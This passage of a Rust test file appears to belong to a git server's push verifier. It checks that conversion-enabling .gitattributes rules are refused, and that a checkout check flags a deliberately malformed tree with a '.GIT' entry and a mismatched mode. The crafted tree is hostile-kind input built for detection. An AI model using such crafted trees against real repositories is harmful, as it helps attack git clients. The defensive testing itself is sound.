            .args(["clone", "-q"])
            .arg(&work.path)
            .arg(&clone),
    );
    let checked_out = std::fs::read_to_string(clone.join("apps/a.yaml")).unwrap();
    assert!(checked_out.starts_with("id: $Id: "), "{checked_out}");

    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "apps/.gitattributes: line 2: \"*.yaml ident\" sets ident",
    ]);
    push.line_with(&[
        short(&c),
        "apps/.gitattributes: line 3: \"*.json eol=crlf -diff\" sets eol=crlf",
        "remove line 3 from 'apps/.gitattributes'",
    ]);
    assert_eq!(push.violations().len(), 2, "{}", push.stderr);
}

#[test]
fn refuses_gitattributes_macro_that_switches_on_conversion() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("macro")
        .file(
            ".gitattributes",
            "[attr]manifest text=auto\n*.yaml manifest\n",
        )
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        ".gitattributes: line 1: \"[attr]manifest text=auto\" sets text=auto",
    ]);
    assert_eq!(push.violations().len(), 1, "{}", push.stderr);
}

#[test]
fn accepts_gitattributes_that_only_turn_conversions_off() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    push_base(&work);
    work.commit("attributes")
        .file(
            ".gitattributes",
            "*.json binary\n*.yaml -text diff linguist-generated !eol -filter\n\
             [attr]plain -text -crlf\n\"with space.yaml\" plain\n",
        )
        .create();
    work.push_main_ok();
}

/// The function an agent runs on the tree it deploys finds the same problems in a whole tree.
#[test]
fn check_checkout_judges_a_whole_tree_by_the_same_rules() {
    use tally_verify::objects::Objects;
    use tally_verify::revision::{Problem, check_checkout};

    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let blob = work.hash_literally("blob", b"a: 1\n");
    let attributes = work.hash_literally("blob", b"* -text\n*.yaml filter=lfs\n");
    let dir = work.raw_tree(&[("100644", b".gitattributes", &attributes)]);
    let root = work.raw_tree(&[
        ("40000", b".GIT", &dir),
        ("100644", b"a.yaml", &dir),
        ("40000", b"apps", &dir),
        ("100644", b"b.yaml", &blob),
    ]);
    let objects = Objects::open(
        &work.path.join(".git"),
        None,
        Vec::new(),
        gix::hash::Kind::Sha1,
    )
    .unwrap();
    let id = |hex: &str| gix::ObjectId::from_hex(hex.as_bytes()).unwrap();
    let found = check_checkout(&objects, "refs/heads/main", id(&blob), id(&root)).unwrap();
    let lines: Vec<String> = found.iter().map(ToString::to_string).collect();
    let has = |part: &str| lines.iter().any(|l| l.contains(part));
    assert!(has(".GIT: tree entry is named .git"), "{lines:#?}");
    assert!(
        has("a.yaml: tree entry mode says blob but the object is a tree"),
        "{lines:#?}"
    );
    assert!(
        has("apps/.gitattributes: line 2: \"*.yaml filter=lfs\" sets filter=lfs"),
        "{lines:#?}"
    );
    assert!(has(".GIT/.gitattributes: line 2:"), "{lines:#?}");
    assert_eq!(lines.len(), 4, "{lines:#?}");
    assert!(
        found
            .iter()
            .all(|v| matches!(v.problem, Problem::Tree(_) | Problem::File(_)))
    );
}
